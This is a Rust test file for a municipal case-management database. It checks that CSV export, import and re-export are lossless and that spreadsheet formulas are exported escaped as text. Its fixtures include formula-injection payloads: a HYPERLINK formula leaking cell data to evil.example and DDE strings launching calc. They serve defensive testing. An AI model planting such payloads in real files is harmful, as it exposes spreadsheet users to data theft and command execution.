//! Export → import → export is the identity, as a property: small random valid extracts are
//! written as CSV, imported, exported, the export imported into a fresh database and exported
//! again (into a second database); the three folders must hold the same files up to row order.

mod opera_support;

use chrono::{Days, NaiveDate};
use opera_support::*;
use proptest::prelude::*;
use proptest::sample::Index;
use proptest::test_runner::{Config, TestRunner};
use sikkerby_domain::calendar::add_months;
use sikkerby_domain::cpr::{Cpr, Sex};
use sikkerby_store::Store;
use sikkerby_testkit::{store_test, TestBackend, TestDatabase};
use std::path::Path;
use std::sync::atomic::{AtomicUsize, Ordering};

/// Rows of offers and follow-ups generated over all cases, to see the property was not vacuous.
static LINKED_ROWS: AtomicUsize = AtomicUsize::new(0);

const INITIATIVES: [&str; 5] = ["EXIT", "UDGAAENDE", "DOMTE", "SSPPLUS", "KRIMITEAM"];
const OFFER_TYPES: [&str; 3] = ["virksomhedspraktik", "mentorstoette", "andet_kommunalt"];
const END_REASONS: [&str; 3] = ["ordinaer_beskaeftigelse", "sygdom", "andet"];
const STATUSES: [&str; 3] = ["beskaeftiget", "ingen_kontakt", "ukendt"];
const KINDS: [&str; 6] = ["varetaegt", "dom", "loesladelse", "job_start", "uddannelse_start", "ssp_kategori"];
/// Free text that needs quoting, non-ASCII letters, an area not in the seed, and formula payloads
/// as the export writes them (marked as text with an apostrophe, see docs/csv-export.md).
const TEXTS: [&str; 9] = [
    "Ali Hassan",
    "Søren \"Bo\" Ølgaard",
    "Hansen; Jens",
    "Åse, Møller",
    "nyt_omraade",
    "'=HYPERLINK(\"https://evil.example/?\"&A1;\"klik\")",
    "'@SUM(1+1)*cmd|' /C calc'!A0",
    "'+45 1234 5678",
    "''t Hooft",
];

fn day(offset: u64) -> NaiveDate {
    NaiveDate::from_ymd_opt(2010, 1, 1).unwrap() + Days::new(offset)
}

#[derive(Debug, Clone)]
struct Enrollment {
    citizen: Index,
    initiative: Index,
    start: u64,
    length: Option<u64>,
    reason: Index,
    caseworker: Option<Index>,
    offers: Vec<(u64, Option<u64>, Index, Option<Index>)>,
    follow_up: Option<(Option<u64>, Index)>,
}

#[derive(Debug, Clone)]
struct Plan {
    citizens: Vec<(u64, u16, Option<Index>, Option<Index>)>,
    enrollments: Vec<Enrollment>,
    placements: Vec<(Index, Option<Index>, u64, Option<u64>)>,
    events: Vec<(Index, Index, u64, i64, bool)>,
}

fn enrollment() -> impl Strategy<Value = Enrollment> {
    let offer =
        (0..200_u64, proptest::option::of(0..200_u64), any::<Index>(), proptest::option::of(any::<Index>()));
    (
        (any::<Index>(), any::<Index>(), 0..1500_u64, proptest::option::of(0..400_u64)),
        (any::<Index>(), proptest::option::of(any::<Index>())),
        proptest::collection::vec(offer, 0..3),
        proptest::option::of((proptest::option::of(0..30_u64), any::<Index>())),
    )
        .prop_map(|((citizen, initiative, start, length), (reason, caseworker), offers, follow_up)| {
            Enrollment { citizen, initiative, start, length, reason, caseworker, offers, follow_up }
        })
}

fn plan() -> impl Strategy<Value = Plan> {
    let citizen =
        (0..9000_u64, 0..300_u16, proptest::option::of(any::<Index>()), proptest::option::of(any::<Index>()));
    let placement =
        (any::<Index>(), proptest::option::of(any::<Index>()), 0..1500_u64, proptest::option::of(0..200_u64));
    let event = (any::<Index>(), any::<Index>(), 0..1500_u64, 1..=4_i64, any::<bool>());
    (
        proptest::collection::vec(citizen, 1..6),
        proptest::collection::vec(enrollment(), 0..6),
        proptest::collection::vec(placement, 0..4),
        proptest::collection::vec(event, 0..6),
    )
        .prop_map(|(citizens, enrollments, placements, events)| Plan {
            citizens,
            enrollments,
            placements,
            events,
        })
}

/// Six CSV files in the canonical form the export writes.
#[derive(Default)]
struct Files {
    borgere: Vec<Vec<String>>,
    forloeb: Vec<Vec<String>>,
    tilbud: Vec<Vec<String>>,
    fritidsjob: Vec<Vec<String>>,
    haendelser: Vec<Vec<String>>,
    opfoelgninger: Vec<Vec<String>>,
}

fn row(fields: &[&str]) -> Vec<String> {
    fields.iter().map(|f| (*f).to_owned()).collect()
}

fn date_text(date: Option<NaiveDate>) -> String {
    date.map(|d| d.to_string()).unwrap_or_default()
}

/// Turns a plan into a valid extract: CPR numbers that exist, offers inside their enrollment,
/// follow-ups due three months after their anchor.
fn extract(plan: &Plan) -> Files {
    let mut files = Files::default();
    let cprs = add_citizens(&mut files, plan);
    if cprs.is_empty() {
        return files;
    }
    for (e, enrollment) in plan.enrollments.iter().enumerate() {
        add_enrollment(&mut files, &cprs, e, enrollment);
    }
    for (p, (citizen, employer, start, length)) in plan.placements.iter().enumerate() {
        let start = day(*start);
        let end = length.map(|l| start + Days::new(l));
        let employer = employer.map(|i| *i.get(&TEXTS)).unwrap_or_default();
        files.fritidsjob.push(row(&[
            &format!("J{p}"),
            citizen.get(&cprs).as_str(),
            employer,
            &start.to_string(),
            &date_text(end),
        ]));
    }
    for (h, (citizen, kind, date, value, follow)) in plan.events.iter().enumerate() {
        let (cpr, kind, date) = (citizen.get(&cprs).as_str(), *kind.get(&KINDS), day(*date));
        let value = if kind == "ssp_kategori" { value.to_string() } else { String::new() };
        files.haendelser.push(row(&[&format!("H{h}"), cpr, kind, &date.to_string(), &value]));
        if kind == "loesladelse" && *follow {
            let due = add_months(date, 3).to_string();
            files.opfoelgninger.push(row(&[
                &format!("OH{h}"),
                cpr,
                "loesladelse",
                &format!("H{h}"),
                &due,
                "",
                "",
            ]));
        }
    }
    files
}

/// The citizens of the plan with distinct, valid CPR numbers; returns the numbers.
fn add_citizens(files: &mut Files, plan: &Plan) -> Vec<String> {
    let mut cprs: Vec<String> = Vec::new();
    for (birth, sequence, name, area) in &plan.citizens {
        let birth = NaiveDate::from_ymd_opt(1980, 1, 1).unwrap() + Days::new(*birth);
        let Some(cpr) = (*sequence..*sequence + 40).find_map(|s| Cpr::synthesize(birth, s, Sex::Female))
        else {
            continue;
        };
        let cpr = cpr.as_digits();
        if cprs.contains(&cpr) {
            continue;
        }
        let name = name.map(|i| *i.get(&TEXTS)).unwrap_or_default();
        let area = area.map(|i| *i.get(&["tingbjerg", "husum", "nyt_omraade"])).unwrap_or_default();
        files.borgere.push(row(&[&cpr, name, area]));
        cprs.push(cpr);
    }
    cprs
}

fn add_enrollment(files: &mut Files, cprs: &[String], e: usize, plan: &Enrollment) {
    let cpr = plan.citizen.get(cprs).as_str();
    let start = day(plan.start);
    let end = plan.length.map(|l| start + Days::new(l));
    let reason = if end.is_some() { *plan.reason.get(&END_REASONS) } else { "" };
    let caseworker = plan.caseworker.map(|i| format!("JKU{:02}", i.index(40))).unwrap_or_default();
    let id = format!("F{e}");
    let initiative = *plan.initiative.get(&INITIATIVES);
    files.forloeb.push(row(&[
        &id,
        cpr,
        initiative,
        &start.to_string(),
        &date_text(end),
        reason,
        "BIF",
        &caseworker,
        "",
    ]));
    if let (Some(end), Some((done, status))) = (end, &plan.follow_up) {
        let due = add_months(end, 3);
        let done = done.map(|d| due + Days::new(d));
        let status = if done.is_some() { *status.get(&STATUSES) } else { "" };
        files.opfoelgninger.push(row(&[
            &format!("OF{e}"),
            cpr,
            "forloeb_slut",
            &id,
            &due.to_string(),
            &date_text(done),
            status,
        ]));
    }
    add_offers(files, cpr, e, (start, end), plan);
}

/// The offers of enrollment `e`, inside its dates; the first with a follow-up on its start.
fn add_offers(
    files: &mut Files,
    cpr: &str,
    e: usize,
    (start, end): (NaiveDate, Option<NaiveDate>),
    plan: &Enrollment,
) {
    let span = plan.length.unwrap_or(400);
    for (o, (offset, length, kind, reason)) in plan.offers.iter().enumerate() {
        let o_start = start + Days::new(offset % (span + 1));
        let o_end = match (end, length) {
            (Some(end), _) => Some((o_start + Days::new(length.unwrap_or(0))).min(end)),
            (None, length) => length.map(|l| o_start + Days::new(l)),
        };
        let reason = reason.map(|r| *r.get(&END_REASONS)).unwrap_or_default();
        let offer = format!("T{e}_{o}");
        files.tilbud.push(row(&[
            &offer,
            &format!("F{e}"),
            *kind.get(&OFFER_TYPES),
            &o_start.to_string(),
            &date_text(o_end),
            reason,
        ]));
        if o == 0 {
            let due = add_months(o_start, 3).to_string();
            files.opfoelgninger.push(row(&[&format!("OT{e}"), cpr, "tilbud_start", &offer, &due, "", ""]));
        }
    }
}

fn write(dir: &Path, files: &Files) {
    let all = [
        ("borgere.csv", "cpr;navn;omraade", &files.borgere),
        (
            "forloeb.csv",
            "forloeb_id;cpr;indsats;start;slut;afslutningsaarsag;tovholder;sagsbehandlerkode;center",
            &files.forloeb,
        ),
        ("tilbud.csv", "tilbud_id;forloeb_id;tilbudstype;start;slut;afslutningsaarsag", &files.tilbud),
        ("fritidsjob.csv", "fritidsjob_id;cpr;arbejdsgiver;start;slut", &files.fritidsjob),
        ("haendelser.csv", "haendelse_id;cpr;haendelse;dato;vaerdi", &files.haendelser),
        (
            "opfoelgninger.csv",
            "opfoelgning_id;cpr;anker;anker_id;forfald;udfoert;status",
            &files.opfoelgninger,
        ),
    ];
    for (name, header, rows) in all {
        let mut writer = csv::WriterBuilder::new().delimiter(b';').from_path(dir.join(name)).unwrap();
        writer.write_record(header.split(';')).unwrap();
        for row in rows {
            writer.write_record(row).unwrap();
        }
        writer.flush().unwrap();
    }
}

/// Imports `input` into a fresh seeded database of `backend` and exports it to a new folder.
/// Empties the case tables, so that one database serves every case as if it were fresh:
/// creating a seeded PostgreSQL database per case would make the test take half a minute.
async fn clear(store: &Store) {
    for table in ["follow_up", "life_event", "placement", "offer", "enrollment", "citizen"] {
        sqlx::query(&format!("DELETE FROM {table}")).execute(store.pool()).await.expect("clear");
    }
}

/// Imports `input` into `store`, emptied first, and exports it to a new folder.
async fn import_then_export(store: &Store, input: &Path) -> tempfile::TempDir {
    clear(store).await;
    let options = sikkerby_store::ImportOptions::default();
    store.import_opera(input, options, &|_| {}).await.expect("import");
    let out = tempfile::tempdir().unwrap();
    store.export_opera(out.path()).await.expect("export");
    out
}

store_test!(export_then_import_then_export_gives_the_same_files, |db: TestDatabase| async move {
    let backend = if db.url.starts_with("sqlite") { TestBackend::Sqlite } else { TestBackend::Postgres };
    let (one, other) = (db.open_seeded().await, TestDatabase::create(backend).await.expect("database"));
    let other = other.open_seeded().await;
    let mut runner = TestRunner::new(Config { cases: 16, ..Config::default() });
    let result = runner.run(&plan(), |plan| {
        let input = tempfile::tempdir().unwrap();
        let files = extract(&plan);
        LINKED_ROWS.fetch_add(files.tilbud.len() + files.opfoelgninger.len(), Ordering::Relaxed);
        write(input.path(), &files);
        let handle = tokio::runtime::Handle::current();
        let (first, second) = tokio::task::block_in_place(|| {
            handle.block_on(async {
                let first = import_then_export(&one, input.path()).await;
                let second = import_then_export(&other, first.path()).await;
                (first, second)
            })
        });
        let (input, first, second) =
            (read_sorted(input.path()), read_sorted(first.path()), read_sorted(second.path()));
        prop_assert_eq!(&first, &input);
        prop_assert_eq!(&second, &first);
        Ok(())
    });
    result.unwrap();
    assert!(LINKED_ROWS.load(Ordering::Relaxed) > 0, "no case had offers or follow-ups");
});

store_test!(formula_payloads_are_stored_as_given_and_exported_as_text, |db: TestDatabase| async move {
    let store = db.open_seeded().await;
    let input = tempfile::tempdir().unwrap();
    let birth = NaiveDate::from_ymd_opt(1990, 5, 17).unwrap();
    let cpr = (0..40).find_map(|s| Cpr::synthesize(birth, s, Sex::Female)).unwrap().as_digits();
    let payload = "=cmd|' /C calc'!A0";
    let files = Files {
        borgere: vec![row(&[&cpr, payload, "tingbjerg"])],
        fritidsjob: vec![row(&["J1", &cpr, "-1+1", "2020-01-01", ""])],
        ..Files::default()
    };
    write(input.path(), &files);
    let out = import_then_export(&store, input.path()).await;
    let names: Vec<String> =
        sqlx::query_scalar("SELECT name FROM citizen").fetch_all(store.pool()).await.unwrap();
    assert_eq!(names, [payload], "the data is kept as OPERA had it");
    let borgere = std::fs::read_to_string(out.path().join("borgere.csv")).unwrap();
    assert!(borgere.contains(&format!("{cpr};'=cmd|' /C calc'!A0;")), "{borgere}");
    let jobs = std::fs::read_to_string(out.path().join("fritidsjob.csv")).unwrap();
    assert!(jobs.contains(";'-1+1;"), "{jobs}");
});
